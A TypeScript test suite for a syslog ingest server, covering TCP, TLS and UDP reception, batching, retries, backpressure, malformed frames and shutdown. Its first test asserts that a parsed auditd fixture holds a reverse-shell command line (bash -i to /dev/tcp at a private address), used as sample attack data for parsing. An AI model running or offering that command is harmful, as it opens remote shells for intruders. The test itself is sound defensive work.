// startSyslog over real loopback sockets with Node clients: TCP (both framings), TLS, UDP; batching,
// BusyError retries, TCP backpressure, UDP drop counting, malformed frames, limits and shutdown.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { createSocket } from 'node:dgram';
import { connect as tlsConnect } from 'node:tls';
import { startSyslog, type SyslogOptions, type SyslogServer } from '../../../src/ingest/syslog/server.js';
import { projectRoot } from '../../helpers/corpus.js';
import { counted, makeCert, TestPort, until } from './helpers.js';

const audit = readFileSync(`${projectRoot}/test/fixtures/syslog/reverse-shell.audit.log`, 'utf8').split('\n').filter(Boolean);
const p23 = (msg: string, host = 'web01') => `<14>1 2023-11-14T22:15:00.500Z ${host} audispd - - - ${msg}`;
const json = (i: number) => `<14>1 2023-11-14T22:15:00.500Z h app - - - {"n":${i},"message":"m${i}"}`;
const dir = mkdtempSync(join(tmpdir(), 'sw-syslog-'));
const servers: SyslogServer[] = [];
after(async () => { for (const s of servers) await s.close(); rmSync(dir, { recursive: true, force: true }); });

async function start(port: TestPort, opts: Partial<SyslogOptions> = {}): Promise<SyslogServer> {
  const s = await startSyslog(port, { tcp: { host: '127.0.0.1', port: 0 }, ...opts });
  servers.push(s);
  return s;
}
function tcp(s: SyslogServer): Promise<Socket> {
  return new Promise((resolve) => { const c = connect(s.addresses().tcp!.port, '127.0.0.1', () => resolve(c)); });
}

test('TCP, LF and octet counting: an auditd event arrives whole, with host and stream/sender provenance', async () => {
  for (const frame of [(m: string) => `${m}\n`, counted]) {
    const port = new TestPort({ commitMs: 2 });
    const s = await start(port);
    const c = await tcp(s);
    c.write(audit.map((l) => frame(p23(l))).join(''));
    await until(() => port.records.length === 2, 'two audit events');
    const [exec, conn] = port.records;
    assert.deepEqual(exec.data.argv, ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']);
    assert.equal(exec.system.computer, 'web01');
    assert.equal(conn.data.saddr_addr, '10.0.0.1');
    const sender = `127.0.0.1:${c.localPort}`;
    assert.deepEqual([exec.ref.stream, exec.ref.sender, exec.ref.line], ['syslog-tcp', sender, 1]);
    assert.deepEqual(port.committed[0].from.stream, 'syslog-tcp');
    assert.equal(port.committed[0].from.sender, sender);
    assert.deepEqual(port.codes(), []);
    c.destroy();
  }
});

test('batching: at most batchMax messages per accept, a lone message goes out after batchMs', async () => {
  const port = new TestPort();
  const s = await start(port, { batchMax: 4, batchMs: 15 });
  const c = await tcp(s);
  c.write(Array.from({ length: 10 }, (_, i) => json(i) + '\n').join(''));
  await until(() => port.records.length === 10, '10 records');
  assert.ok(port.committed.every((x) => x.records.length <= 4), 'batches of at most 4');
  assert.deepEqual(port.records.map((r) => r.data.n), [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
  // a lone message goes out although batchMax is not reached
  c.write(json(10) + '\n');
  await until(() => port.records.length === 11, 'the lone message');
  c.destroy();
});

test('an audit event without its EOE yet is held (auditHoldMs), other messages are not delayed by it', async () => {
  const port = new TestPort();
  // a hold far longer than the test: whatever comes out while it lasts was not held
  const s = await start(port, { batchMs: 10, auditHoldMs: 600_000 });
  const c = await tcp(s);
  c.write(`${p23(audit[0])}\n${p23(audit[1])}\n${json(1)}\n`);
  await until(() => port.records.length === 1, 'the JSON record');
  assert.equal(port.records[0].format.startsWith('json'), true, 'not held with the audit lines');
  c.write(audit.slice(2, 7).map((l) => `${p23(l)}\n`).join(''));
  await until(() => port.records.length === 2, 'the completed audit event');
  assert.deepEqual(port.records[1].data.type, ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE']);
  c.write(`${p23(audit[7])}\n${json(2)}\n`);
  await until(() => port.records.length === 3, 'the JSON record after it');
  assert.equal(port.records[2].format.startsWith('json'), true, 'the incomplete event is held for its EOE');
  c.destroy();
});

test('an audit event whose EOE never comes goes out once auditHoldMs has passed', async () => {
  const port = new TestPort();
  const s = await start(port, { batchMs: 10, auditHoldMs: 50 });
  const c = await tcp(s);
  c.write(`${p23(audit[7])}\n`);
  await until(() => port.records.length === 1, 'an incomplete event after auditHoldMs', 5000);
  assert.equal(port.records[0].format, 'auditd');
  c.destroy();
});

test('BusyError: the batch is kept and retried after retryAfterS; nothing lost, nothing twice', async () => {
  const port = new TestPort({ busy: 3, retryAfterS: 0.02 });
  const s = await start(port, { batchMax: 5 });
  const c = await tcp(s);
  c.write(Array.from({ length: 12 }, (_, i) => counted(json(i))).join(''));
  await until(() => port.records.length === 12, '12 records');
  assert.equal(port.busyRefusals, 3);
  assert.deepEqual(port.records.map((r) => r.data.n), [...Array(12).keys()]);
  c.destroy();
});

test('TCP backpressure: a blocked store pauses the socket (the client stalls); all arrives once unblocked', async () => {
  const port = new TestPort();
  port.block();
  const s = await start(port, { batchMax: 50 });
  const c = await tcp(s);
  // large enough (~24 MB) that loopback's kernel buffers cannot absorb it all
  const total = 12_000;
  const pad = 'p'.repeat(2000);
  const payload = Array.from({ length: total }, (_, i) => json(i).replace('"message":"', `"message":"${pad}`) + '\n').join('');
  c.write(payload);
  await until(() => port.inFlight === 1, 'the first accept in flight');
  // the server stops reading: the client's unsent bytes stay in its own buffer
  await until(() => c.writableLength > 0 && s.stats().messages < total, 'client writes stalled');
  const seen = s.stats().messages;
  await new Promise((r) => setTimeout(r, 200));
  assert.ok(s.stats().messages - seen < 2000, `server read little while blocked (${seen} → ${s.stats().messages})`);
  assert.ok(c.writableLength > 0, 'still stalled');
  port.open();
  await until(() => port.records.length === total, `${total} records`, 30_000);
  const ns = port.records.map((r) => r.data.n as number);
  assert.equal(new Set(ns).size, total, 'nothing twice');
  assert.deepEqual(ns.slice(0, 3), [0, 1, 2]);
  assert.ok(ns.every((n, i) => n === i), 'in order');
  c.destroy();
});

test('malformed frames: oversize and non-UTF-8 are reported and skipped (LF keeps going); a bad count closes', async () => {
  const port = new TestPort();
  const s = await start(port, { maxFrame: 1024 });
  const c = await tcp(s);
  c.write(Buffer.concat([Buffer.from(json(1) + '\n' + 'x'.repeat(5000) + '\n'), Buffer.from([0x3c, 0x31, 0x3e, 0xff, 0x0a]), Buffer.from(json(2) + '\n')]));
  await until(() => port.records.length === 2, 'the good records around the bad ones');
  assert.deepEqual(port.codes().sort(), ['SW6003', 'SW6009']);
  assert.equal(port.diagnostics[0].d.location?.file, 'syslog-tcp');
  const o = await tcp(s);
  const closed = new Promise((r) => o.on('close', r));
  o.write(counted(json(3)) + 'XX nonsense');
  await closed;
  await until(() => port.records.length === 3, 'the frame before the bad count');
  assert.equal(port.codes().filter((x) => x === 'SW6009').length, 2);
  c.destroy();
});

test('limits: connections beyond maxConnections are refused; idle connections are closed', async () => {
  const port = new TestPort();
  const s = await start(port, { maxConnections: 2, idleMs: 150 });
  const a = await tcp(s);
  const b = await tcp(s);
  await until(() => s.stats().connections === 2, 'two connections');
  const c = await tcp(s);
  await new Promise((r) => c.on('close', r));
  assert.equal(s.stats().refused, 1);
  await Promise.all([a, b].map((x) => new Promise((r) => x.on('close', r))));
});

test('TLS (RFC 5425): octet-counted frames over TLS arrive as syslog-tls', async () => {
  const { cert, key } = makeCert(dir);
  const port = new TestPort();
  const s = await start(port, { tcp: undefined, tls: { host: '127.0.0.1', port: 0, cert, key } });
  const c = tlsConnect({ host: '127.0.0.1', port: s.addresses().tls!.port, ca: cert, servername: 'localhost' });
  await new Promise((r) => c.once('secureConnect', r));
  c.write(audit.map((l) => counted(p23(l, 'tlshost'))).join(''));
  await until(() => port.records.length === 2, 'two events over TLS');
  assert.equal(port.records[0].ref.stream, 'syslog-tls');
  assert.equal(port.records[0].system.computer, 'tlshost');
  c.destroy();
});

test('UDP: one datagram one message, per-sender provenance; a flood beyond the queue is dropped and counted', async () => {
  const port = new TestPort();
  const s = await start(port, { tcp: undefined, udp: { host: '127.0.0.1', port: 0 }, udpQueue: 100 });
  const u = createSocket('udp4');
  await new Promise<void>((r) => u.bind(0, '127.0.0.1', () => r()));
  const to = s.addresses().udp!.port;
  const send = (m: string) => new Promise((r) => u.send(m, to, '127.0.0.1', r));
  for (const l of audit) await send(p23(l, 'udphost'));
  await until(() => port.records.length === 2, 'two events over UDP');
  assert.deepEqual([port.records[0].ref.stream, port.records[0].ref.sender, port.records[0].system.computer], ['syslog-udp', `127.0.0.1:${u.address().port}`, 'udphost']);
  port.block();
  const total = 1000;
  for (let i = 0; i < total; i += 25) {
    await Promise.all(Array.from({ length: 25 }, (_, k) => send(json(i + k))));
    await new Promise((r) => setImmediate(r));
  }
  const dropped = () => port.drops.reduce((a, d) => a + d.n, 0);
  await until(() => s.stats().messages + s.stats().udpDropped === total + audit.length, 'every datagram read or dropped');
  await until(() => dropped() === s.stats().udpDropped, 'drops reported');
  assert.ok(dropped() >= total - 100 - 1, `the queue bound held (${dropped()} dropped)`);
  assert.ok(port.drops.every((d) => d.why === 'queue full' && d.from.stream === 'syslog-udp'));
  assert.ok(port.codes().includes('SW6010'));
  port.open();
  await until(() => port.records.length - 2 + dropped() === total, 'queued datagrams committed');
  u.close();
});

test('close(): what was read is committed before the sockets close', async () => {
  const port = new TestPort({ commitMs: 20 });
  const s = await startSyslog(port, { tcp: { host: '127.0.0.1', port: 0 }, batchMs: 5000 });
  const c = await tcp(s);
  c.write(json(1) + '\n' + json(2) + '\n');
  await until(() => s.stats().messages === 2, 'two messages read');
  await s.close();
  assert.equal(port.records.length, 2);
  assert.deepEqual(port.drops, []);
});
